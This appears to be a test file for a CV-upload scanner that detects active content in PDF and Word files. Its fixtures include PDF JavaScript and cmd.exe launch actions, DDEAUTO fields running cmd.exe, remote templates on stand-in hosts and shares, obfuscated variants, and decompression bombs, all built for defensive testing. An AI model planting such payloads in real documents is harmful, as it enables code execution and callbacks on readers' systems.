// Active content: what is found in each of these files, and that nothing is found in ordinary ones.
import { strToU8 } from 'fflate'
import { expect, test } from 'vitest'
import type { ActiveContent, CvKind } from '#domain/cvs/cvs.ts'
import { docxWith, lyingDocx, pdfWith, word97 } from '#test/input/cv-files.ts'
import { docx, pdf } from '#test/input/files.ts'
import {
  catalog,
  docOf,
  docxRelated,
  docxWithBody,
  field,
  packedObjects,
  pages,
  pdfOf,
  pdfStream,
  renamedMacro,
  run,
  wordXml,
} from '#test/input/hostile-cvs.ts'
import { findActiveContent } from './active-content.ts'

type File = Buffer | Promise<Buffer>
type Case = [kind: CvKind, what: string, make: () => File]

const js = '<</S/JavaScript/JS(app.alert(1))>>'
const vba = { name: 'VBA', children: [{ name: 'dir', data: Buffer.alloc(100) }] }
const chart = strToU8(
  '<Relationships><Relationship Id="r" Type="http://x/relationships/package" Target="../embeddings/Sheet.xlsx"/></Relationships>',
)

// shows: 7-108, V5.4.3
test.each<[expected: ActiveContent[], ...Case]>([
  [
    ['script'],
    'pdf',
    'that runs a script when it opens',
    () => pdfOf([catalog('/OpenAction 3 0 R'), pages, js]),
  ],
  [
    ['script'],
    'pdf',
    'with the script in its catalog',
    () => pdfOf([catalog(`/OpenAction${js}`), pages]),
  ],
  [
    ['script'],
    'pdf',
    'with an escaped name',
    () => pdfOf([catalog('/OpenAction<</S/Java#53cript/#4a#53(x)>>'), pages]),
  ],
  [
    ['script'],
    'pdf',
    'with the script packed',
    () => pdfOf([catalog('/OpenAction 4 0 R'), pages, packedObjects(4, [js])]),
  ],
  [
    ['script', 'unreadable'],
    'pdf',
    'with the script packed behind a string that never ends',
    () => pdfOf([catalog(), pages, packedObjects(4, ['(', js])]),
  ],
  [
    ['script'],
    'pdf',
    'packed without its type',
    () =>
      Buffer.from(
        pdfOf([catalog(), pages, packedObjects(4, [js])])
          .toString('latin1')
          .replace('/Type/ObjStm', '/Xxxx/Objects'),
        'latin1',
      ),
  ],
  [
    ['script'],
    'pdf',
    'with the script in an object inside of a picture',
    () => pdfOf([catalog(), pages, pdfStream('', `\n9 0 obj${js}endobj`, '')]),
  ],
  [
    ['script', 'unreadable'],
    'pdf',
    'behind an object that swallows the rest',
    () => pdfOf(['(', catalog(), js]),
  ],
  [
    ['script', 'unreadable'],
    'pdf',
    'behind a false object and a comment in a string',
    () => pdfOf(['(', '<</X(2 0 obj %)/S/JavaScript/JS(x)>>']),
  ],
  [
    ['script', 'unreadable'],
    'pdf',
    'behind marks that close nothing',
    () => pdfOf([catalog(), '<</A]/B>/S/JavaScript/JS(x)>>']),
  ],
  [
    ['script'],
    'pdf',
    'that starts a program',
    () => pdfOf([catalog('/OpenAction<</S/Launch/F(cmd.exe)>>'), pages]),
  ],
  [
    ['script'],
    'pdf',
    'whose kind of action stands elsewhere',
    () => pdfOf([catalog('/OpenAction<</S 3 0 R/F(cmd.exe)>>'), pages, '/Launch']),
  ],
  [
    ['script'],
    'pdf',
    'that calls home when it opens',
    () => pdfOf([catalog('/OpenAction 3 0 R'), pages, '<</S/URI/URI(http://x.example)>>']),
  ],
  [
    ['script'],
    'pdf',
    'that does something with a page',
    () => pdfOf([catalog(), '<</Type/Page/AA<</O<</S/GoToE/F(\\\\\\\\x.example\\\\a)>>>>>>']),
  ],
  [
    ['script'],
    'pdf',
    'that does something with a page, told elsewhere',
    () => pdfOf([catalog(), '<</Type/Page/AA 3 0 R>>', '<</O 4 0 R>>']),
  ],
  [
    ['script'],
    'pdf',
    'form that sends itself',
    () => pdfOf([catalog(), '<</Subtype/Widget/A<</S/SubmitForm/F(http://x.example)>>>>']),
  ],
  [
    ['script'],
    'pdf',
    'form of the other kind',
    () => pdfOf([catalog('/AcroForm<</XFA 3 0 R>>'), pages]),
  ],
  [
    ['script'],
    'pdf',
    'with a film that is a program',
    () => pdfOf([catalog(), '<</Subtype/RichMedia/Type/Annot>>']),
  ],
  [
    ['embedded-file'],
    'pdf',
    'with a file in it',
    () => pdfOf([catalog(), pages, '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>']),
  ],
  [
    ['script', 'embedded-file'],
    'pdf',
    'with both',
    () => pdfOf([catalog(), js, pdfStream('/Type/EmbeddedFile', 'MZ')]),
  ],
  [['encrypted'], 'pdf', 'with a password', () => pdfWith(['x'], { userPassword: 'secret' })],
  [
    ['encrypted'],
    'pdf',
    'encrypted, with objects that cannot be seen',
    () => pdfOf([catalog(), pages, packedObjects(4, [js])], '/Encrypt<</V 2>>'),
  ],
  [
    ['unreadable'],
    'pdf',
    'packed in a way that is not unpacked',
    () => pdfOf([catalog(), packedObjects(4, [js], '/Filter[/ASCIIHexDecode/FlateDecode]')]),
  ],
  [
    ['unreadable'],
    'pdf',
    'whose objects unpack to too much',
    () => pdfOf([catalog(), packedObjects(4, [' '.repeat(70_000_000)])]),
  ],
  [
    ['unreadable'],
    'pdf',
    'of objects in objects',
    () => Buffer.from(`%PDF-1.4\n${'1 0 obj<<'.repeat(200_000)}`),
  ],

  [['macro'], 'docx', 'whose macros are called otherwise', renamedMacro],
  [
    ['macro'],
    'docx',
    'that says so of a part',
    () =>
      docx({
        '[Content_Types].xml': strToU8(
          '<Types><Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
      }),
  ],
  [
    ['embedded-object'],
    'docx',
    'with an object',
    () => docxRelated('oleObject', 'embeddings/a.bin'),
  ],
  [
    ['embedded-object'],
    'docx',
    'with a file of another program',
    () => docxRelated('package', 'embeddings/a.xlsm'),
  ],
  [['embedded-object'], 'docx', 'with a control', () => docxRelated('control', 'a.xml')],
  [
    ['embedded-object'],
    'docx',
    'with a page that is taken in',
    () => docxRelated('aFChunk', 'a.rtf'),
  ],
  [
    ['embedded-object', 'external-link'],
    'docx',
    'with an object elsewhere',
    () => docxRelated('oleObject', 'mhtml:http://x.example!x', { mode: 'External' }),
  ],
  [
    ['external-link'],
    'docx',
    'with a template elsewhere',
    () => docxRelated('attachedTemplate', 'https://x.example/a.dotm', { mode: 'External' }),
  ],
  [
    ['external-link'],
    'docx',
    'with a template on a share',
    () =>
      docxRelated('attachedTemplate', 'file:///\\\\203.0.113.5\\a\\b.dotm', { mode: 'External' }),
  ],
  [
    ['external-link'],
    'docx',
    'with a frame elsewhere',
    () => docxRelated('frame', 'http://x.example', { mode: 'External' }),
  ],
  [
    ['external-link'],
    'docx',
    'with a picture on a share',
    () => docxRelated('image', 'file://x.example/a.png', { mode: 'External' }),
  ],
  [
    ['external-link'],
    'docx',
    'with a linked file',
    () => docxWithBody(field('LINK Word.Document.8 "http://x.example/a" \\a')),
  ],
  [
    ['dde'],
    'docx',
    'with a command',
    () => docxWithBody(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
  ],
  [['dde'], 'docx', 'with a command in pieces', () => docxWithBody(field(' D', 'D', 'E', ' cmd'))],
  [
    ['dde'],
    'docx',
    'with a command in other letters',
    () => docxWithBody(field('&#68;&#x44;e', '<![CDATA[auto]]> cmd')),
  ],
  [
    ['dde'],
    'docx',
    'with a command as a simple field',
    () => docxWithBody('<w:fldSimple w:instr=" DDE cmd "/>'),
  ],
  [
    ['dde'],
    'docx',
    'with a command that another field names',
    () =>
      docxWithBody(
        field('', '</w:instrText></w:r>', field('QUOTE 68 68 69'), '<w:r><w:instrText> cmd'),
      ),
  ],
  [
    ['dde'],
    'docx',
    'with a command in its header, by other prefixes',
    () =>
      docx({
        'word/header9.xml': strToU8('<x:hdr xmlns:x="a"><x:fldSimple x:instr="DDE a b"/></x:hdr>'),
      }),
  ],
  [
    ['dde'],
    'docx',
    'with a command in wide letters',
    () =>
      docx({
        'word/footer1.xml': Buffer.from(
          '\uFEFF<w:ftr><w:fldSimple w:instr="DDE a b"/></w:ftr>',
          'utf16le',
        ),
      }),
  ],
  [['unreadable'], 'docx', 'whose directory lies', () => lyingDocx(2_000_000)],
  [['unreadable'], 'docx', 'that breaks off', async () => (await docxWith('x')).subarray(0, 900)],

  [['macro'], 'doc', 'with macros', () => docOf({ beside: [{ name: 'Macros', children: [vba] }] })],
  [['macro'], 'doc', 'with macros in their own place', () => docOf({ beside: [vba] })],
  [
    ['embedded-object'],
    'doc',
    'with an object',
    () =>
      docOf({
        beside: [
          {
            name: 'ObjectPool',
            children: [
              { name: '_1', children: [{ name: '\u0001Ole10Native', data: Buffer.alloc(10) }] },
            ],
          },
        ],
      }),
  ],
  [['dde'], 'doc', 'with a command', () => docOf({ text: 'a\u0013 DDEAUTO cmd \u0014x\u0015\r' })],
  [
    ['dde'],
    'doc',
    'with a command in wide letters',
    () => docOf({ text: '自\u0013DDE cmd\u0015\r', isWide: true }),
  ],
  [
    ['external-link'],
    'doc',
    'with a template elsewhere',
    () => docOf({ template: 'http://x.example/a.dot' }),
  ],
  [['encrypted'], 'doc', 'with a password', () => docOf({ isLocked: true })],
  [['unreadable'], 'doc', 'that breaks off', () => word97.subarray(0, 6000)],
  [['unreadable'], 'doc', 'of zeros', () => Buffer.alloc(4096)],
])('%j is said of a %s %s', async (expected, kind, _, make) => {
  expect(await findActiveContent(Buffer.from(await make()), kind)).toEqual(expected)
})

// shows: 7-108
test.each<Case>([
  ['pdf', 'of the smallest kind', () => pdf],
  ['pdf', 'with text', () => pdfWith(['Forklift licence'])],
  ['pdf', 'with a password for changes only', () => pdfWith(['x'], { ownerPassword: 'secret' })],
  [
    'pdf',
    'that opens on its first page',
    () => pdfOf([catalog('/OpenAction[3 0 R/FitH null]'), pages]),
  ],
  [
    'pdf',
    'that goes to a place when it opens',
    () => pdfOf([catalog('/OpenAction 3 0 R'), pages, '<</S/GoTo/D[2 0 R/Fit]>>']),
  ],
  [
    'pdf',
    'of a programmer',
    () =>
      pdfOf([
        catalog(),
        '<</Title(HTML/JS 5 years \\(/JavaScript\\))/A<</S/URI/URI(https://x.example/Web/JavaScript)>>>>',
      ]),
  ],
  [
    'pdf',
    'whose fonts have such names',
    () =>
      pdfOf([
        catalog(),
        '<</Font<</JS 4 0 R/AA<</Type/Font>>/AA 5 0 R>>/RoleMap<</JavaScript/P>>>>',
      ]),
  ],
  ['pdf', 'with such letters', () => pdfOf([catalog(), '<</AA 3 0 R>>', pdfStream('', 'x')])],
  [
    'pdf',
    'with packed objects',
    () => pdfOf([catalog(), packedObjects(4, ['<</A/JavaScript>>', '(/JS)', '5'])]),
  ],
  ['docx', 'of the smallest kind', () => docx()],
  ['docx', 'with text', () => docxWith('Forklift licence')],
  [
    'docx',
    'with links and fields',
    () =>
      docxRelated('hyperlink', 'https://x.example', {
        mode: 'External',
        parts: {
          'word/document.xml': wordXml(
            field(' HYPERLINK "https://x.example/DDE" ') +
              field(' PAGE ') +
              field('=', '</w:instrText></w:r>', field('PAGE'), '<w:r><w:instrText>+1') +
              run('DDE LINK'),
          ),
        },
      }),
  ],
  [
    'docx',
    "with its author's template",
    () =>
      docxRelated('attachedTemplate', 'file:///C:\\Users\\x\\Resume.dotx', { mode: 'External' }),
  ],
  [
    'docx',
    "with the template of its author's office",
    () =>
      docxRelated('attachedTemplate', 'file:///\\\\server\\share\\Letter.dotx', {
        mode: 'External',
      }),
  ],
  [
    'docx',
    'with a picture from a page',
    () => docxRelated('image', 'https://x.example/a.png', { mode: 'External' }),
  ],
  ['docx', 'with a chart', () => docx({ 'word/charts/_rels/chart1.xml.rels': chart })],
  ['doc', 'of Word 97', () => word97],
  [
    'doc',
    'made here',
    () => docOf({ text: 'DDE macros\u0013 PAGE \u00141\u0015\r', template: 'C:\\x\\Normal.dot' }),
  ],
  ['doc', 'with an empty pool', () => docOf({ beside: [{ name: 'ObjectPool', children: [] }] })],
])('nothing is said of a %s %s', async (kind, _, make) => {
  expect(await findActiveContent(Buffer.from(await make()), kind)).toEqual([])
})

test('changed bytes never break it', async () => {
  const files: [CvKind, Buffer][] = [
    ['pdf', pdfOf([catalog('/OpenAction 4 0 R'), pages, packedObjects(4, [js])])],
    ['docx', docxWithBody(field('DDE a'))],
    ['doc', docOf({ beside: [vba] })],
  ]
  // Seeded, so the same changes in every run.
  let seed = 1
  const random = (below: number) => (seed = (seed * 48_271) % 2_147_483_647) % below
  for (const [kind, whole] of files) {
    for (let round = 0; round < 100; round += 1) {
      const copy = Buffer.from(whole)
      for (let change = 0; change <= round % 5; change += 1) copy[random(copy.length)] = random(256)
      await expect(findActiveContent(copy, kind)).resolves.toBeInstanceOf(Array)
    }
  }
})

// Quadratic work would exceed the timeout of the test.
test.each<[string, ActiveContent[], CvKind, () => Buffer]>([
  [
    'comments behind objects',
    ['unreadable'],
    'pdf',
    () => Buffer.from('1 0 obj 5%'.repeat(800_000)),
  ],
  ['strings in strings', ['unreadable'], 'pdf', () => Buffer.from('1 0 obj('.repeat(1_000_000))],
  [
    'tags without an end',
    ['unreadable'],
    'docx',
    () => docxWithBody('<w:instrText a="'.repeat(500_000)),
  ],
  [
    'fields in fields',
    ['dde'],
    'docx',
    () => docxWithBody('<w:fldChar w:fldCharType="begin"/>'.repeat(200_000)),
  ],
  ['marks of fields', ['dde'], 'doc', () => docOf({ text: '\u0013'.repeat(1_500_000) })],
])('a file of %s costs no more than others', async (_, expected, kind, make) => {
  expect(await findActiveContent(make(), kind)).toEqual(expected)
})
